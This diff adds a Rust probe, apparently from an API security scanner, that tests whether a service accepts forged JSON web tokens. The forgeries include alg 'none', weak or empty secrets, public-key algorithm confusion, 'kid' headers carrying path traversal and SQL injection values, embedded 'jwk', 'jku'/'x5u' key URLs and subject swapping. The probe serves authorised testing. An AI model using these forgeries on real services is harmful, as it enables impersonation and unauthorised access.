@@ -1,0 +1,304 @@
+//! Forged tokens: whether a token is believed that nobody has signed, or that anybody could have.
+//!
+//! The control is a protected read with a valid token, which neither nobody nor garbage gets. A mutant keeps the claims
+//! and breaks what vouches for them; it is believed when it gets the same answer as the valid token.
+
+use std::time::Duration;
+
+use async_trait::async_trait;
+use serde_json::{Value, json};
+
+use crate::context::Context;
+use crate::docket::{Docket, Trail};
+use crate::exchange::{Call, Credential};
+use crate::finding::{Label, Site};
+use crate::plan::Plan;
+use crate::probe::Probe;
+use crate::probe::authn::{AUTHORIZATION, Control, is_alike, protected_reads};
+use crate::row::Row;
+use crate::rule::{self, Rule};
+use crate::scope::SendError;
+use crate::surface::{Endpoint, Known};
+use crate::token::{Jwt, UNSIGNED, pem_of, weak_secrets};
+
+/// The probe.
+#[derive(Debug)]
+pub(crate) struct Forgery;
+
+#[async_trait]
+impl Probe for Forgery {
+    fn id(&self) -> &'static str {
+        "token-forgery"
+    }
+
+    fn row(&self) -> Row {
+        Row::Authentication
+    }
+
+    fn estimate(&self, _: &Plan) -> u32 {
+        35
+    }
+
+    async fn run(&self, context: &Context<'_>, docket: &mut Docket) -> Result<(), SendError> {
+        let mut controls = protected_reads(context);
+        // The answer to a read by id tells best whose token was believed.
+        let is_said = |endpoint: &Endpoint| endpoint.is_owned() && endpoint.known == Known::Declared;
+        controls.sort_by_key(|control| (!is_said(control.endpoint) || control.endpoint.owner.request.is_empty(), !is_said(control.endpoint)));
+        for control in controls.iter().take(MAXIMUM_CONTROLS) {
+            if let Some(controlled) = controlled(context, docket, control).await? {
+                return forge(context, docket, control, controlled).await;
+            }
+        }
+        docket.skip("no protected read tells a valid token from none");
+        Ok(())
+    }
+}
+
+/// The token of a control that tells a valid token from none, and what shows it.
+struct Controlled {
+    jwt: Jwt,
+    trail: Trail,
+    valid: crate::exchange::Answer,
+}
+
+async fn controlled(
+    context: &Context<'_>,
+    docket: &mut Docket,
+    control: &Control<'_>,
+) -> Result<Option<Controlled>, SendError> {
+    let Some(session) = context.sessions.get(control.session) else { return Ok(None) };
+    let Some(jwt) = Jwt::read(&session.token) else {
+        docket.skip("the token is not a JSON web token, so nothing in it can be changed");
+        return Ok(None);
+    };
+    let mut trail = Trail::default();
+    let valid = context.send(&mut trail, Label::Control, &control.valid(context)).await?;
+    for (token, shown) in [(None, ""), (Some("garbage"), "garbage")] {
+        let credential = token.map_or(Credential::None, |token| session.with_token(token, shown));
+        let refused = context.send(&mut trail, Label::Control, &control.call(context, credential)).await?;
+        if is_alike(&valid, &refused) || !valid.is_success() {
+            docket.skip(format!("`{}` does not tell a valid token from none", control.endpoint.id));
+            return Ok(None);
+        }
+    }
+    Ok(Some(Controlled { jwt, trail, valid }))
+}
+
+/// A token that should be refused.
+struct Mutant {
+    rule: &'static Rule,
+    token: String,
+    shown: &'static str,
+    how: &'static str,
+}
+
+async fn forge(
+    context: &Context<'_>,
+    docket: &mut Docket,
+    control: &Control<'_>,
+    controlled: Controlled,
+) -> Result<(), SendError> {
+    let Controlled { jwt, trail: controls, valid } = controlled;
+    let placeholder =
+        context.sessions.get(control.session).map(|session| session.placeholder.clone()).unwrap_or_default();
+    let secret = weak_secrets().find(|secret| jwt.is_signed_with(secret.as_bytes()));
+    let mut proved: Vec<&str> = Vec::new();
+    for Mutant { rule, token, shown, how } in mutants(context, &jwt, secret.as_deref()).await? {
+        // Where a signature is not looked at, every other way to make one is the same weakness.
+        let is_known =
+            proved.contains(&rule.slug) || is_the_same_cause(rule) && proved.contains(&rule::TOKEN_FORGED.slug);
+        if is_known {
+            continue;
+        }
+        let mut trail = controls.clone();
+        let attack = control.call(context, control.signed(context, &token, &format!("{placeholder}_{shown}")));
+        let answer = context.send(&mut trail, Label::Attack, &attack).await?;
+        let site = Site { operation: &control.endpoint.id, insertion: AUTHORIZATION };
+        if is_alike(&valid, &answer) {
+            proved.push(rule.slug);
+            docket.prove(rule, site, format!("a token {how} is believed"), trail);
+        } else {
+            let reason = format!("a token {how} is answered with {}", answer.status.as_u16());
+            docket.withstand(rule, site, reason, trail);
+        }
+    }
+    let named = Named { jwt: &jwt, placeholder: &placeholder, controls: &controls };
+    fetched_keys(context, docket, control, named).await?;
+    expired(context, docket, control, Old { jwt: &jwt, secret: secret.as_deref(), proved: &proved, controls, valid })
+        .await?;
+    for_another(context, docket, control.endpoint).await
+}
+
+fn is_the_same_cause(rule: &Rule) -> bool {
+    [rule::TOKEN_CONFUSED.slug, rule::TOKEN_GUESSABLE.slug, rule::TOKEN_KEYED.slug].contains(&rule.slug)
+}
+
+async fn mutants(context: &Context<'_>, jwt: &Jwt, secret: Option<&str>) -> Result<Vec<Mutant>, SendError> {
+    let mut mutants = vec![
+        Mutant { rule: &rule::TOKEN_FORGED, token: jwt.flipped(), shown: "FLIPPED", how: "with a wrong signature" },
+        Mutant {
+            rule: &rule::TOKEN_FORGED,
+            token: jwt.stripped(),
+            shown: "STRIPPED",
+            how: "whose signature was cut off",
+        },
+    ];
+    for spelling in UNSIGNED {
+        let (rule, token) = (&rule::TOKEN_UNSIGNED, jwt.unsigned(spelling));
+        mutants.push(Mutant { rule, token, shown: "UNSIGNED", how: "that says it is not signed" });
+    }
+    if let Some(secret) = secret {
+        // Another moment of issue: the same claims would be the same token.
+        let token = jwt.signed(jwt.algorithm(), secret.as_bytes(), &[], &[("iat", json!(1_700_000_000))]);
+        mutants.push(Mutant {
+            rule: &rule::TOKEN_GUESSABLE,
+            token,
+            shown: "GUESSED",
+            how: "signed with a secret that is a common word",
+        });
+    }
+    let blank = jwt.signed("HS256", b"", &[], &[]);
+    mutants.push(Mutant {
+        rule: &rule::TOKEN_GUESSABLE,
+        token: blank,
+        shown: "BLANK",
+        how: "signed with an empty secret",
+    });
+    for key in public_keys(context).await? {
+        for form in [key.clone(), key.trim_end().to_owned()] {
+            let token = jwt.signed("HS256", form.as_bytes(), &[], &[]);
+            let how = "signed with the public key as a secret";
+            mutants.push(Mutant { rule: &rule::TOKEN_CONFUSED, token, shown: "CONFUSED", how });
+        }
+    }
+    let keyed = |header: &[(&str, Value)], secret: &[u8], how: &'static str| {
+        let token = jwt.signed("HS256", secret, header, &[]);
+        Mutant { rule: &rule::TOKEN_KEYED, token, shown: "KEYED", how }
+    };
+    let (file, statement) = ("../../../../../../../../dev/null", "x' UNION SELECT 'cGxzZA' -- ");
+    mutants.push(keyed(&[("kid", json!(file))], b"", "whose key is named as an empty file"));
+    mutants.push(keyed(&[("kid", json!("/dev/null"))], b"", "whose key is named as an empty file"));
+    mutants.push(keyed(&[("kid", json!(statement))], b"cGxzZA", "whose key comes out of a statement in `kid`"));
+    let own = json!({ "kty": "oct", "alg": "HS256", "kid": "own", "k": "cGxzZA" });
+    mutants.push(keyed(&[("jwk", own)], b"plsd", "that brings its own key"));
+    Ok(mutants)
+}
+
+/// The public keys that the service serves, as PEM.
+async fn public_keys(context: &Context<'_>) -> Result<Vec<String>, SendError> {
+    let declared = context.surface().endpoints.iter().filter(|one| one.is_read()).map(|one| one.template.as_str());
+    let declared = declared.filter(|path| path.contains("jwks") || path.ends_with("/keys"));
+    let mut paths: Vec<&str> = declared.chain(["/.well-known/jwks.json", "/jwks.json"]).collect();
+    paths.dedup();
+    for path in paths {
+        let answer = context.client.send(&Call::get(path)).await?;
+        let keys = answer.json().and_then(|body| body.get("keys")?.as_array().cloned()).unwrap_or_default();
+        let keys: Vec<String> = keys.iter().filter_map(pem_of).collect();
+        if !keys.is_empty() {
+            return Ok(keys);
+        }
+    }
+    Ok(Vec::new())
+}
+
+/// A token to be changed, and what shows that it works.
+struct Named<'n> {
+    jwt: &'n Jwt,
+    placeholder: &'n str,
+    controls: &'n Trail,
+}
+
+/// A token that names an address of ours for its key.
+async fn fetched_keys(
+    context: &Context<'_>,
+    docket: &mut Docket,
+    control: &Control<'_>,
+    named: Named<'_>,
+) -> Result<(), SendError> {
+    let Named { jwt, placeholder, controls } = named;
+    for name in ["jku", "x5u"] {
+        let token = format!("/{}", context.marker());
+        let address = format!("http://{}{token}", context.sink.address());
+        let mutant = jwt.signed(jwt.algorithm(), b"", &[(name, json!(address))], &[]);
+        let mut trail = controls.clone();
+        let attack = control.call(context, control.signed(context, &mutant, &format!("{placeholder}_KEYED")));
+        let answer = context.send(&mut trail, Label::Attack, &attack).await?;
+        let insertion = format!("{AUTHORIZATION}/{name}");
+        let site = Site { operation: &control.endpoint.id, insertion: &insertion };
+        if context.sink.sees(&token, PATIENCE).await {
+            let summary = format!("the service asks the address in `{name}` of a token for its key");
+            docket.prove(&rule::TOKEN_KEYED, site, summary, trail);
+        } else {
+            let reason = format!("a token that names its key's address is answered with {}", answer.status.as_u16());
+            docket.withstand(&rule::TOKEN_KEYED, site, reason, trail);
+        }
+    }
+    Ok(())
+}
+
+/// What is needed to make a token that would be fine but for its age.
+struct Old<'o> {
+    jwt: &'o Jwt,
+    secret: Option<&'o str>,
+    proved: &'o [&'static str],
+    controls: Trail,
+    valid: crate::exchange::Answer,
+}
+
+async fn expired(
+    context: &Context<'_>,
+    docket: &mut Docket,
+    control: &Control<'_>,
+    old: Old<'_>,
+) -> Result<(), SendError> {
+    let Old { jwt, secret, proved, controls, valid } = old;
+    let past = [("exp", json!(1))];
+    let is_proved = |rule: &Rule| proved.contains(&rule.slug);
+    let token = match secret.filter(|_| is_proved(&rule::TOKEN_GUESSABLE)) {
+        Some(secret) => jwt.signed(jwt.algorithm(), secret.as_bytes(), &[], &past),
+        None if is_proved(&rule::TOKEN_UNSIGNED) && !is_proved(&rule::TOKEN_FORGED) => jwt.unsigned_with(&past),
+        None => jwt.expired(),
+    };
+    if !jwt.claims().contains_key("exp") {
+        return Ok(());
+    }
+    let mut trail = controls;
+    let shown = context.sessions.get(control.session).map(|session| format!("{}_EXPIRED", session.placeholder));
+    let attack = control.call(context, control.signed(context, &token, &shown.unwrap_or_default()));
+    let answer = context.send(&mut trail, Label::Attack, &attack).await?;
+    let site = Site { operation: &control.endpoint.id, insertion: AUTHORIZATION };
+    if is_alike(&valid, &answer) {
+        docket.prove(&rule::TOKEN_EXPIRED, site, "a token that expired in 1970 is believed".to_owned(), trail);
+    } else {
+        let reason = format!("an expired token is answered with {}", answer.status.as_u16());
+        docket.withstand(&rule::TOKEN_EXPIRED, site, reason, trail);
+    }
+    Ok(())
+}
+
+/// Reads what is a victim's with the attacker's token, made out to the victim.
+async fn for_another(context: &Context<'_>, docket: &mut Docket, endpoint: &Endpoint) -> Result<(), SendError> {
+    let Some((victim, attacker)) = context.peers(endpoint).into_iter().next() else { return Ok(()) };
+    let Some(values) = context.values_of(endpoint, victim).into_iter().next() else { return Ok(()) };
+    let Some((owner, forger)) = context.sessions.get(victim).zip(context.sessions.get(attacker)) else { return Ok(()) };
+    let Some((jwt, subject)) = Jwt::read(&forger.token).zip(owner.claim("sub")) else { return Ok(()) };
+    let mut trail = Trail::default();
+    let control = context.call(endpoint, &values, None, Some(victim));
+    let valid = context.send(&mut trail, Label::Control, &control).await?;
+    let token = forger.with_token(&jwt.for_subject(&subject), &format!("{}_FOR_ANOTHER", forger.placeholder));
+    let attack = context.call(endpoint, &values, None, None).with_credential(token);
+    let answer = context.send(&mut trail, Label::Attack, &attack).await?;
+    let site = Site { operation: &endpoint.id, insertion: AUTHORIZATION };
+    if is_alike(&valid, &answer) {
+        let summary = format!("{} becomes {} by writing another subject into the token", forger.name, owner.name);
+        docket.prove(&rule::TOKEN_SUBJECT, site, summary, trail);
+    } else {
+        let reason = format!("a token with another subject is answered with {}", answer.status.as_u16());
+        docket.withstand(&rule::TOKEN_SUBJECT, site, reason, trail);
+    }
+    Ok(())
+}
+
+/// A key that is asked for at all is asked for at once.
+const PATIENCE: Duration = Duration::from_millis(100);
+const MAXIMUM_CONTROLS: usize = 3;
